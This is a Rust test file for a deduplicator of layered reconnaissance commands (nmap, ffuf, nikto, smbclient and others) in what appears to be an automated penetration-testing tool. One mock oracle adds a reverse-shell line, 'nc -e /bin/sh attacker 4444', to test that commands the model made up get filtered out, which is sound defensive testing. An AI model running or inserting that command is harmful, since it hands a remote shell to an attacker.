use std::sync::{Arc, Mutex};

use async_trait::async_trait;
use hawx::analysis::{DedupOracle, Repairer};
use hawx::errors::HawxError;
use hawx::pipeline::{LayerDeduplicator, Records, BASELINE_LAYER};

/// Oracle that answers with a fixed reply and records what it was shown.
struct FixedOracle {
    reply: Result<String, String>,
    shown: Mutex<Vec<(Vec<String>, Vec<String>)>>,
}

impl FixedOracle {
    fn answering(reply: &str) -> Arc<Self> {
        Arc::new(Self { reply: Ok(reply.to_string()), shown: Mutex::new(Vec::new()) })
    }

    fn failing() -> Arc<Self> {
        Arc::new(Self { reply: Err("provider down".into()), shown: Mutex::new(Vec::new()) })
    }

    /// Echo every candidate back, plus one command it made up.
    fn echoing() -> Arc<Self> {
        Arc::new(Self { reply: Ok(String::new()), shown: Mutex::new(Vec::new()) })
    }
}

#[async_trait]
impl DedupOracle for FixedOracle {
    async fn deduplicate(&self, current: &[String], prior: &[String]) -> Result<String, HawxError> {
        self.shown.lock().unwrap().push((current.to_vec(), prior.to_vec()));
        match &self.reply {
            Ok(reply) if reply.is_empty() => {
                let mut all = current.to_vec();
                all.push("nc -e /bin/sh attacker 4444".into());
                Ok(serde_json::json!({ "deduplicated_commands": all }).to_string())
            }
            Ok(reply) => Ok(reply.clone()),
            Err(e) => Err(HawxError::Network(e.clone())),
        }
    }
}

struct CountingRepair {
    reply: String,
    calls: Mutex<usize>,
}

#[async_trait]
impl Repairer for CountingRepair {
    async fn repair(&self, _malformed: &str) -> Result<String, HawxError> {
        *self.calls.lock().unwrap() += 1;
        Ok(self.reply.clone())
    }
}

fn repairer(reply: &str) -> Arc<CountingRepair> {
    Arc::new(CountingRepair { reply: reply.to_string(), calls: Mutex::new(0) })
}

fn cmds(items: &[&str]) -> Vec<String> {
    items.iter().map(|s| s.to_string()).collect()
}

fn history(baseline: &[&str]) -> Records {
    let mut records = Records::default();
    records.set_layer(BASELINE_LAYER, cmds(baseline));
    records
}

#[tokio::test]
async fn test_closed_set_against_empty_history() {
    let candidates = cmds(&["nmap -p- 10.10.11.58", "nmap -sV 10.10.11.58"]);
    let dedup = LayerDeduplicator::new(FixedOracle::echoing(), repairer("{}"));

    let out = dedup.reduce(&candidates, &Records::default(), 0).await;
    assert!(!out.is_empty());
    assert!(out.iter().all(|c| candidates.contains(c)));
}

#[tokio::test]
async fn test_narrower_scan_dropped_across_layers() {
    let oracle = FixedOracle::echoing();
    let dedup = LayerDeduplicator::new(oracle.clone(), repairer("{}"));
    let records = history(&["nmap -sC -sV -p- 10.10.11.58"]);

    let out = dedup.reduce(&cmds(&["nmap -p- 10.10.11.58"]), &records, 0).await;
    assert!(out.is_empty());
    // Nothing survived the local filter, so the oracle is not consulted.
    assert!(oracle.shown.lock().unwrap().is_empty());
}

#[tokio::test]
async fn test_targeted_probes_retained() {
    let oracle = FixedOracle::echoing();
    let dedup = LayerDeduplicator::new(oracle.clone(), repairer("{}"));
    let records = history(&["nmap -sC -sV -p- 10.10.11.58"]);
    let candidates = cmds(&[
        "curl http://10.10.11.58/.git/config",
        "curl http://10.10.11.58/robots.txt",
    ]);

    let out = dedup.reduce(&candidates, &records, 0).await;
    assert_eq!(out, candidates);

    let shown = oracle.shown.lock().unwrap();
    assert_eq!(shown[0].1, cmds(&["nmap -sC -sV -p- 10.10.11.58"]));
}

#[tokio::test]
async fn test_exact_duplicate_of_earlier_layer_removed() {
    let ffuf = "ffuf -u http://10.10.11.58/FUZZ -w big.txt";
    let mut records = history(&["nmap -sC -sV -p- 10.10.11.58"]);
    records.set_layer(0, cmds(&[ffuf]));
    let dedup = LayerDeduplicator::new(FixedOracle::echoing(), repairer("{}"));

    assert!(dedup.reduce(&cmds(&[ffuf]), &records, 1).await.is_empty());
}

#[tokio::test]
async fn test_history_only_covers_earlier_layers() {
    let mut records = history(&["nmap -sC -sV -p- 10.0.0.1"]);
    records.set_layer(1, cmds(&["whatweb http://10.0.0.1"]));
    let dedup = LayerDeduplicator::new(FixedOracle::echoing(), repairer("{}"));

    // Layer 1 itself is not history for layer 1.
    let out = dedup.reduce(&cmds(&["whatweb http://10.0.0.1"]), &records, 1).await;
    assert_eq!(out, cmds(&["whatweb http://10.0.0.1"]));
}

#[tokio::test]
async fn test_oracle_order_is_authoritative_and_capped() {
    let reply = r#"{"deduplicated_commands": ["nikto -h http://x", "whatweb http://x", "curl -s http://x/robots.txt"]}"#;
    let dedup = LayerDeduplicator::new(FixedOracle::answering(reply), repairer("{}")).with_cap(2);
    let candidates = cmds(&["curl -s http://x/robots.txt", "whatweb http://x", "nikto -h http://x"]);

    let out = dedup.reduce(&candidates, &Records::default(), 0).await;
    assert_eq!(out, cmds(&["nikto -h http://x", "whatweb http://x"]));
}

#[tokio::test]
async fn test_oracle_failure_falls_back_to_filtered_list() {
    let dedup = LayerDeduplicator::new(FixedOracle::failing(), repairer("{}"));
    let records = history(&["nmap -sC -sV -p- 10.0.0.1"]);
    let candidates = cmds(&["nmap -p- 10.0.0.1", "smbclient -L //10.0.0.1 -N", "smbclient -L //10.0.0.1 -N"]);

    let out = dedup.reduce(&candidates, &records, 0).await;
    assert_eq!(out, cmds(&["smbclient -L //10.0.0.1 -N"]));
}

#[tokio::test]
async fn test_malformed_answer_gets_one_repair() {
    let fixed = repairer(r#"{"deduplicated_commands": ["whatweb http://x"]}"#);
    let dedup = LayerDeduplicator::new(FixedOracle::answering("sure! here you go"), fixed.clone());

    let out = dedup.reduce(&cmds(&["whatweb http://x", "nikto -h http://x"]), &Records::default(), 0).await;
    assert_eq!(out, cmds(&["whatweb http://x"]));
    assert_eq!(*fixed.calls.lock().unwrap(), 1);
}

#[tokio::test]
async fn test_unrepairable_answer_keeps_filtered_list() {
    let broken = repairer("still not json");
    let dedup = LayerDeduplicator::new(FixedOracle::answering("nope"), broken.clone());
    let candidates = cmds(&["whatweb http://x", "nikto -h http://x"]);

    let out = dedup.reduce(&candidates, &Records::default(), 0).await;
    assert_eq!(out, candidates);
    assert_eq!(*broken.calls.lock().unwrap(), 1);
}
